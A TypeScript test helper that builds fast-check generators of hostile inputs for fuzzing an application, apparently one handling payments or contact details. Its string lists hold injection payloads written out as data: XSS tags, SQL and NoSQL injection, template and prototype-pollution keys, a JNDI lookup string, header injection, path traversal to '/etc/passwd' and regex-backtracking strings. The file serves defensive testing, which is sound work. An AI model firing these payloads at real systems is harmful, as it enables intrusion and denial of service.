import fc from 'fast-check';

/** Long enough that work which grows with the square of it is felt, and that with its power of two never ends. */
const LONG = 12_000;

/** Texts over which expressions that go back and forth stumble. */
const backtracking = ['a', '0', ' ', '.', '-', '+', 'a.', 'a@', '0 ', '46', '%20'].flatMap((part) => {
  const run = part.repeat(LONG / part.length);
  return [run, `${run}!`, `x@${run}`, `${run}@example.com`, `+46${run}x`];
});

const texts = [
  '',
  ' ',
  '\u0000',
  'a\r\nBcc: somebody@example.com',
  '\u202eevil\u2066',
  '\ud800',
  '\ufeff',
  '🧸'.repeat(40),
  'é'.normalize('NFD'),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '{% $states.context %}',
  '${jndi:ldap://example.com/a}',
  "' OR '1'='1",
  '#id = :id',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '../../etc/passwd',
  '%00',
  '%ff',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  'swish://paymentrequest?token=x',
];

const numbers = [0, -0, -1, 0.1, 1e-7, 999.5, 1000, 2 ** 31, 2 ** 53, 2 ** 53 + 2, 1e21, 1e308, -1e308];

const deep = (levels: number): unknown => JSON.parse('['.repeat(levels) + ']'.repeat(levels)) as unknown;

const structures: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  { $ne: 1 },
  { toString: 1 },
  { length: 5 },
  { S: 'text' },
  deep(2_000),
  Array.from({ length: 200 }, () => ({ id: 'rainy-day', number: 1 })),
];

/** What nobody who means well would send in the place of a text, a number, a list or an object. */
export const hostileValues: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.constantFrom(...backtracking) },
  { weight: 3, arbitrary: fc.constantFrom(...numbers) },
  { weight: 3, arbitrary: fc.constantFrom(...structures) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** The same, of texts alone. */
export const hostileTexts: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.constantFrom(...backtracking) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);

/** Names that mean something to a language or a library. */
export const hostileNames: fc.Arbitrary<string> = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'then',
  'price',
  'total',
  'status',
  'kind',
  'id',
  '$ref',
  '',
  'a'.repeat(300),
);
